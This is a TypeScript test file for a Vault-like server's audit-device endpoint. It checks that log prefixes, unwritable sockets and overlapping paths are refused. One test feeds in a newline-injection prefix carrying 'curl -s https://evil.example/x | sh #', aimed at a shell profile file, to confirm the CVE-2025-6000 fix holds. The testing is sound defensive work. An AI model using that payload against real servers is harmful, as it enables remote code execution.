/**
 * The checks of `PUT sys/audit/:path` over HTTP, as Vault's `enableAudit`:
 * - `prefix` is refused unless the configuration allows it (Vault's
 *   `allow_audit_log_prefixing`, CVE-2025-6000): with a free `file_path`, a
 *   prefix holding a newline let whoever enables a device write lines of
 *   their choosing into any file the server can write;
 * - a test entry is written through the new device first, so one that cannot
 *   write (a socket nobody listens on) is refused rather than enabled: enabled,
 *   it failed every request, its own `DELETE` included, and again after a restart;
 * - a path nested in or around one in use is refused.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { entries, PROBE_PATH, withAuditServer } from './audit-helpers.js';
import { call } from './helpers.js';

let dir: string;
let server: { url: string; root: string };
withAuditServer((s) => ({ server, dir } = s));

describe('PUT sys/audit/:path', () => {
  it('refuses options.prefix unless the configuration allows it, and writes nothing', async () => {
    const file = join(dir, 'profile.sh');
    const en = await call(server, 'PUT', '/v1/sys/audit/pfx', {
      body: {
        type: 'file',
        options: { file_path: file, prefix: '\ncurl -s https://evil.example/x | sh #' },
      },
    });
    expect(en.status, en.text).toBe(400);
    expect(en.json.errors[0]).toContain('allow_audit_log_prefixing');
    expect(() => readFileSync(file)).toThrow(/ENOENT/);
    // An empty prefix is no prefix.
    const empty = await call(server, 'PUT', '/v1/sys/audit/pfx', {
      body: { type: 'file', options: { file_path: 'discard', prefix: '' } },
    });
    expect(empty.status, empty.text).toBe(204);
    expect((await call(server, 'DELETE', '/v1/sys/audit/pfx')).status).toBe(204);
  });

  it('writes a test entry through the device before enabling it', async () => {
    const file = join(dir, 'probe.log');
    const en = await call(server, 'PUT', '/v1/sys/audit/probe', {
      body: { type: 'file', options: { file_path: file } },
    });
    expect(en.status, en.text).toBe(204);
    const [first] = entries(file, true);
    expect(first?.type).toBe('request');
    expect(first?.request.path).toBe(PROBE_PATH);
    expect((await call(server, 'DELETE', '/v1/sys/audit/probe')).status).toBe(204);
  });

  it('refuses a unix socket device whose socket does not exist; the server stays usable', async () => {
    const en = await call(server, 'PUT', '/v1/sys/audit/sock', {
      body: {
        type: 'socket',
        options: { socket_type: 'unix', address: join(dir, 'no-such-dir', 'audit.sock') },
      },
    });
    expect(en.status, en.text).toBe(400);
    expect(en.json.errors[0]).toMatch(/^audit backend failed test message: /);
    expect((await call(server, 'GET', '/v1/sys/audit')).json.data).toEqual({});
    expect((await call(server, 'DELETE', '/v1/sys/audit/sock')).status).toBe(204);
  });

  it('refuses a tcp socket device whose address refuses connections', async () => {
    const en = await call(server, 'PUT', '/v1/sys/audit/tcp', {
      body: { type: 'socket', options: { address: '127.0.0.1:1', write_timeout: '1s' } },
    });
    expect(en.status, en.text).toBe(400);
    expect((await call(server, 'POST', '/v1/transit/keys/after-refused')).status).toBe(200);
  });

  it('refuses a/b when a/ is enabled, and x when x/y/ is, with "path already in use"', async () => {
    const body = { type: 'file', options: { file_path: 'discard' } };
    expect((await call(server, 'PUT', '/v1/sys/audit/a', { body })).status).toBe(204);
    expect((await call(server, 'PUT', '/v1/sys/audit/x/y', { body })).status).toBe(204);
    const nested = await call(server, 'PUT', '/v1/sys/audit/a/b', { body });
    const parent = await call(server, 'PUT', '/v1/sys/audit/x', { body });
    const sibling = await call(server, 'PUT', '/v1/sys/audit/ab', { body });
    for (const p of ['a', 'x/y', 'ab']) await call(server, 'DELETE', `/v1/sys/audit/${p}`);
    expect([nested.status, nested.json?.errors]).toEqual([400, ['path already in use']]);
    expect([parent.status, parent.json?.errors]).toEqual([400, ['path already in use']]);
    expect(sibling.status).toBe(204);
  });
});
